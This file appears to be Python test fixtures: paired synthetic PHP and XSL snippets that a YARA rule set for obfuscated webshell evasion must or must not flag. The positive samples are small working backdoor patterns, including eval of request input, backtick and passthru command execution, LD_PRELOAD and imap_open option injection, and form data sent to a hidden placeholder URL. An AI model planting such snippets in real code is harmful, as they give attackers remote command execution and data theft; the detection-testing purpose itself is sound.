"""Must-hit / near-miss samples for `signatures/evasion.yar`, collected by tests/test_rules.py.

Small synthetic PHP written for the tests; nothing here comes from the malware corpus.
"""

from __future__ import annotations

CASES: list[tuple[str, bytes, bool]] = [
    (
        "SPAMGEAR_EVASION_CommentInVariableSyntax",
        b'<?php $f = "strlen"; echo $f($/*x*/{"_G"."ET"}["q"]);',
        True,
    ),
    (
        "SPAMGEAR_EVASION_CommentInVariableSyntax",
        b'<?php /* name */ $name = "x"; echo ${"var"};',
        False,
    ),
    (
        "SPAMGEAR_EVASION_ReflectionOfInput",
        b"<?php $p = json_decode($_POST['d'], true);\n"
        b"$r = new ReflectionFunction($p['n']);\n$r->invoke($p['v']);",
        True,
    ),
    (
        "SPAMGEAR_EVASION_ReflectionOfInput",
        b"<?php function args($cb) { $r = new ReflectionFunction($cb);\n"
        b"return $r->getNumberOfParameters(); }",
        False,
    ),
    (
        "SPAMGEAR_EVASION_SinkCallbackViaVariable",
        b"<?php $cb = 'passthru';\nob_start($cb);\necho 'id';\nob_end_flush();",
        True,
    ),
    (
        "SPAMGEAR_EVASION_SinkCallbackViaVariable",
        b"<?php $mode = 'strict';\n$out = array_map($fmt, $rows);",
        False,
    ),
    (
        "SPAMGEAR_EVASION_CodeLiteralEvalVar",
        b"<?php $job = 'system(\"uname -a\")';\nassert($job);",
        True,
    ),
    (
        "SPAMGEAR_EVASION_CodeLiteralEvalVar",
        b"<?php $msg = 'system ready';\nassert($ok);",
        False,
    ),
    (
        "SPAMGEAR_EVASION_SuperglobalFragmentEval",
        b"<?php $a = '$_P'; $b = \"OST['k']\"; $c = 'echo '.$a.$b.';'; eval($c);",
        True,
    ),
    (
        "SPAMGEAR_EVASION_SuperglobalFragmentEval",
        b"<?php $doc = 'Use $_POST for forms'; eval($tpl);",
        False,
    ),
    (
        "SPAMGEAR_EVASION_XslPhpSink",
        b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"'
        b' xmlns:php="http://php.net/xsl"><xsl:template match="/">'
        b"<xsl:value-of select=\"php:function('system', string(.))\"/></xsl:template></xsl:stylesheet>",
        True,
    ),
    (
        "SPAMGEAR_EVASION_XslPhpSink",
        b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"'
        b' xmlns:php="http://php.net/xsl"><xsl:template match="/">'
        b"<xsl:value-of select=\"php:function('ucfirst', string(.))\"/></xsl:template></xsl:stylesheet>",
        False,
    ),
    (
        "SPAMGEAR_EVASION_UnderscoreVarCall",
        b"<?php $_ = explode('|', $_SERVER['HTTP_X_T'], 2); $__ = $_[0]; $___ = $_[1]; $__($___);",
        True,
    ),
    (
        "SPAMGEAR_EVASION_UnderscoreVarCall",
        b"<?php echo __('Hello'); $_ = 1; printf('%d', $_);",
        False,
    ),
    (
        "SPAMGEAR_EVASION_DecodedCallableName",
        b"<?php function dec($s) { return strrev($s); }\n"
        b"call_user_func_array(dec('metsys'), array($_POST['c']));",
        True,
    ),
    (
        "SPAMGEAR_EVASION_DecodedCallableName",
        b"<?php call_user_func_array(array($this, 'handle'), array($_POST['c']));",
        False,
    ),
    (
        "SPAMGEAR_EVASION_TruncatedSinkName",
        b"<?php $f = 'syste';\n$f .= 'm';\n$f($argv[1]);",
        True,
    ),
    (
        "SPAMGEAR_EVASION_TruncatedSinkName",
        b"<?php $f = 'system'; $log->info($f);",
        False,
    ),
    (
        "SPAMGEAR_EVASION_EvalOfFunctionResult",
        b'<?php function k() { $x = "ev"; return $x."al(\\$payload);"; }\neval(k());',
        True,
    ),
    (
        "SPAMGEAR_EVASION_EvalOfFunctionResult",
        b"<?php function k() { return 1; }\n$v = k();",
        False,
    ),
    (
        "SPAMGEAR_EVASION_NestedVariableCalls",
        b"<?php $a = 'strrev'; $b = 'trim'; $c = 'strtolower'; echo $a($b($c($x)));",
        True,
    ),
    (
        "SPAMGEAR_EVASION_NestedVariableCalls",
        b"<?php echo $fmt($filter($value)); echo strrev(trim($x));",
        False,
    ),
    (
        "SPAMGEAR_EVASION_NestedVarCallOfInput",
        b"<?php $r = $_POST['q']; $d = 'base64_decode'; $f = 'printf'; $f($d($r));",
        True,
    ),
    (
        "SPAMGEAR_EVASION_NestedVarCallOfInput",
        b"<?php $r = $_POST['q']; echo htmlspecialchars(trim($r));",
        False,
    ),
    (
        "SPAMGEAR_EVASION_ArglessLambdaOfInputScript",
        b"<?php $body = decode_it($_REQUEST['k']);\n$fn = create_function('', $body);\n$fn();",
        True,
    ),
    (
        "SPAMGEAR_EVASION_ArglessLambdaOfInputScript",
        b"<?php $cmp = create_function('$a,$b', 'return $a - $b;'); usort($_POST['n'], $cmp);",
        False,
    ),
    (
        "SPAMGEAR_EVASION_DocCommentPayload",
        b"<?php\n/** hidden text */\nclass T {}\n$rc = new ReflectionClass('T');\n"
        b"$s = $rc->getDocComment();\n$f = substr($s, strpos($s, 'h'), 6);\n$f($s);",
        True,
    ),
    (
        "SPAMGEAR_EVASION_DocCommentPayload",
        b"<?php\n$rc = new ReflectionClass('T');\n$s = $rc->getDocComment();\n"
        b"$tag = substr($s, strpos($s, '@'), 6);\necho $tag;",
        False,
    ),
    (
        "SPAMGEAR_EVASION_SuperglobalAliasToSink",
        b"<?php $v = array_values($_SERVER);\n$out = system($v[7]);",
        True,
    ),
    (
        "SPAMGEAR_EVASION_SuperglobalAliasToSink",
        b"<?php $v = array_values($_SERVER);\nprint_r($v);",
        False,
    ),
    (
        "SPAMGEAR_EVASION_ChrRegexModifier",
        b"<?php $t = preg_replace(chr(47) . 'x' . chr(47) . chr(101), $code, 'x');",
        True,
    ),
    (
        "SPAMGEAR_EVASION_ChrRegexModifier",
        b"<?php $t = preg_replace('/' . chr(9) . '/', ' ', $line);",
        False,
    ),
    (
        "SPAMGEAR_EVASION_PregReplaceEvalCode",
        b"<?php preg_replace('/x/e', 'ev'.'al($_'.'POST[\"k\"])', 'x');",
        True,
    ),
    (
        "SPAMGEAR_EVASION_PregReplaceEvalCode",
        b"<?php $s = preg_replace('/(\\w+)/e', 'strtoupper(\"\\\\1\")', $s);",
        False,
    ),
    (
        "SPAMGEAR_EVASION_AssertSilenced",
        b"<?php assert_options(ASSERT_WARNING, 0);\n$c = decode($blob);\nassert($c);",
        True,
    ),
    (
        "SPAMGEAR_EVASION_AssertSilenced",
        b"<?php assert_options(ASSERT_WARNING, 0);\nassert($count > 0);",
        False,
    ),
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        b"<?php $d = 'base64_decode'; eval($d($blob));",
        True,
    ),
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        b"<?php $d = 'base64_decode'; echo $d($blob); eval('return 1;');",
        False,
    ),
    (
        "SPAMGEAR_EVASION_BarewordBase64",
        b"<?php $f = base64_decode(c3RybGVu); echo $f('abc');",
        True,
    ),
    (
        "SPAMGEAR_EVASION_BarewordBase64",
        b"<?php $k = base64_decode(SECRET_KEY); $v = base64_decode('c3RybGVu');",
        False,
    ),
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        b"<?php include 'php://input';",
        True,
    ),
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        b"<?php return include('data://text/plain,' . urlencode($compiled));",
        False,
    ),
    (
        "SPAMGEAR_EVASION_ReflectionOfSink",
        b"<?php $f = new ReflectionFunction('passthru'); $f->invoke($cmd);",
        True,
    ),
    (
        "SPAMGEAR_EVASION_ReflectionOfSink",
        b"<?php $f = new ReflectionFunction('array_map'); echo $f->getName();",
        False,
    ),
    (
        "SPAMGEAR_EVASION_SinkNameRareCallback",
        b"<?php array_walk_recursive($_POST, 'assert');",
        True,
    ),
    (
        "SPAMGEAR_EVASION_SinkNameRareCallback",
        b"<?php array_walk_recursive($data, 'trim_value');",
        False,
    ),
    (
        "SPAMGEAR_EVASION_CopiedInputElementCall",
        b"<?php parse_str($_SERVER['QUERY_STRING'], $q); $q['f']($q['a']);",
        True,
    ),
    (
        "SPAMGEAR_EVASION_CopiedInputElementCall",
        b"<?php parse_str($_SERVER['QUERY_STRING'], $q); echo intval($q['page']);",
        False,
    ),
    (
        "SPAMGEAR_EVASION_HeaderToSinkTiny",
        b"<?php $ua = $_SERVER['HTTP_USER_AGENT']; assert($ua);",
        True,
    ),
    (
        "SPAMGEAR_EVASION_HeaderToSinkTiny",
        b"<?php $ua = $_SERVER['HTTP_USER_AGENT']; echo htmlspecialchars($ua);",
        False,
    ),
    (
        "SPAMGEAR_EVASION_NativeEscape",
        b"<?php putenv('LD_PRELOAD=' . __DIR__ . '/x.so'); mail('a@b.c', 's', 'b');",
        True,
    ),
    (
        "SPAMGEAR_EVASION_NativeEscape",
        b"<?php putenv('LANG=C'); $ffi = FFI::cdef('int abs(int x);', 'libc.so.6');",
        False,
    ),
    (
        "SPAMGEAR_EVASION_EvalOfStoredOrStreamed",
        b"<?php session_start();\n$_SESSION['k'] = $_POST['k'];\neval($_SESSION['k']);",
        True,
    ),
    (
        "SPAMGEAR_EVASION_EvalOfStoredOrStreamed",
        b"<?php session_start();\necho htmlspecialchars($_SESSION['user']);",
        False,
    ),
    (
        "SPAMGEAR_EVASION_EvalOfStoredOrStreamed",
        b"<?php eval(<<<EOT\n{$_POST['k']}\nEOT\n);",
        True,
    ),
    (
        "SPAMGEAR_EVASION_EvalOfStoredOrStreamed",
        b"<?php $h = fopen('php://input', 'r'); eval(fread($h, 65536));",
        True,
    ),
    (
        "SPAMGEAR_EVASION_ShellOptionInjection",
        b"<?php imap_open('{' . $host . ' -oProxyCommand=`echo x|sh`}', '', '');",
        True,
    ),
    (
        "SPAMGEAR_EVASION_ShellOptionInjection",
        b"<?php $m = imap_open('{mail.example.org:993/imap/ssl}INBOX', $user, $pass);",
        False,
    ),
    (
        "SPAMGEAR_EVASION_ShellOptionInjection",
        b"<?php mail($to, 's', $body, '', '-OQueueDirectory=/tmp -X /var/www/log.php');",
        True,
    ),
    (
        "SPAMGEAR_EVASION_ShellOptionInjection",
        b"<?php mail($to, 's', $body, '', '-f bounce@example.org');",
        False,
    ),
    (
        "SPAMGEAR_EVASION_BacktickVarTiny",
        b"<?php $c = $_GET['c'];\necho `$c`;",
        True,
    ),
    (
        "SPAMGEAR_EVASION_BacktickVarTiny",
        b"<?php\n/** The `$name` parameter comes from $_GET. */\necho $name;",
        False,
    ),
    (
        "SPAMGEAR_EVASION_SuperglobalCursorCall",
        b"<?php $f = current($_GET);\n$f(next($_GET));",
        True,
    ),
    (
        "SPAMGEAR_EVASION_SuperglobalCursorCall",
        b"<?php $first = current($_GET);\necho htmlspecialchars($first);",
        False,
    ),
    (
        "SPAMGEAR_EVASION_InputDumpToHiddenUrl",
        b"<?php $d = base64_encode(serialize($_POST));\n"
        b"@file_get_contents(base64_decode('aHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS5pbnZhbGlkL2M=')"
        b" . '?d=' . $d);",
        True,
    ),
    (
        "SPAMGEAR_EVASION_InputDumpToHiddenUrl",
        b"<?php $d = json_encode($_POST);\nfile_put_contents('/var/log/app/form.json', $d);",
        False,
    ),
    (
        "SPAMGEAR_EVASION_GlobalsTableCalls",
        b"<?php $GLOBALS['_t1_'] = Array(base64_decode('c3RybGVu'), base64_decode('dHJpbQ=='));\n"
        b"echo $GLOBALS['_t1_'][0]($GLOBALS['_t1_'][1]('x'));",
        True,
    ),
    (
        "SPAMGEAR_EVASION_GlobalsTableCalls",
        b"<?php $GLOBALS['config'] = array('debug' => false);\n"
        b"echo $GLOBALS['config']['debug'] ? 'on' : 'off';",
        False,
    ),
    (
        "SPAMGEAR_EVASION_AltInputToSink",
        b"<?php eval(base64_decode(filter_input(INPUT_POST, 'x')));",
        True,
    ),
    (
        "SPAMGEAR_EVASION_AltInputToSink",
        b"<?php $page = filter_input(INPUT_GET, 'p', FILTER_SANITIZE_NUMBER_INT); echo intval($page);",
        False,
    ),
    (
        "SPAMGEAR_EVASION_HeaderToSinkTiny",
        b"<?php $c = filter_input(INPUT_COOKIE, 'c');\npassthru($c);",
        True,
    ),
]
